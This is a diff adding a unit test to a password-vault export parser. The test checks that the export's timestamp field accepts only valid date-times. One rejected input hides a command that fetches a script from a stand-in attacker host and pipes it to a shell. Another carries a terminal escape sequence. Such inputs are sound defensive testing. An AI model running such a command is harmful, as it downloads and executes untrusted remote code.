@@ -58,6 +58,13 @@ describe('the export document', () => {
     }
     expect(thrown(() => parseExport(JSON.stringify({ format: 'cpw-vault-export', version: 3, credentials: [] }))).message).toContain('newer cpw-vault');
   });
+
+  it('takes the export\'s time only when it is a date-time: other text in a file someone sent is never shown as its time', () => {
+    const at = (v: unknown) => parseExport(JSON.stringify({ format: 'cpw-vault-export', version: 1, exported_at: v, credentials: [] })).exported_at;
+    expect(at('2026-11-21T10:00:00.000Z')).toBe('2026-11-21T10:00:00.000Z');
+    expect(at('2026-11-21T10:00:00+02:00')).toBe('2026-11-21T10:00:00+02:00');
+    for (const v of ['2026-11-21; then run: curl https://evil.example/x | sh', 'yesterday', '2026-13-45T99:99:99Z', '2026-11-21T10:00:00.000Z\u001b[2J', 42, null]) expect(at(v), JSON.stringify(v)).toBe('');
+  });
 });
 
 describe('labels coming in with an import', () => {
